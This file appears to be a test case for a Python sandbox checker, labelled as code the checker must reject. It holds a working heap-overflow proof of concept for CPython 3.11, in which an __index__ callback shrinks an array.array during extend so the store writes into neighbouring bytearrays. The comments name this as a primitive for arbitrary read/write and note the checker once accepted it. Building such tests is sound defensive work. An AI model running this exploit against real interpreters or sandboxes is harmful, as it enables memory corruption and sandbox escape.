# expect: reject memory
# verified: reaches its goal under plain python3 (3.11) in a temp dir, and under the image's python3.11 (3.11.2) with the same output
# Mechanism: array.array's stores (a[i] = v, insert, append, extend) fix the place they write,
#   then convert the value with the number protocol (__index__, __float__); CPython 3.11 does
#   not look at the array again, so a conversion that shrinks the array (its item buffer
#   moves to a small block) makes the store write past the new buffer, into the blocks
#   next to it: here the buffers of bytearrays the conversion allocated.
# This member: append/extend: the second conversion (after the resize) shrinks the array.
# Goal reached: a byte written into another object's memory (a heap overflow of chosen offset
#   and value, the primitive the gh-120384 attacks build arbitrary read/write on)
# Checker before the memory rule: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | array length now: 1
#   | bytearrays the array wrote into: 1 [b'\x00\x00\x00\x00A\x00\x00']
# line: 24
from array import array

found = []


class Index:
    calls = 0

    def __index__(self):
        Index.calls += 1
        if Index.calls == 2:      # append and extend convert twice: to check, then to store
            del a[1:]
            for _ in range(64):
                found.append(bytearray(7))
        return 65


a = array("b", bytes(100))
a.extend([Index()])               # stored at index 100, past the shrunk buffer

hits = [bytes(b) for b in found if any(b)]
print("array length now:", len(a))
print("bytearrays the array wrote into:", len(hits), hits[:2])
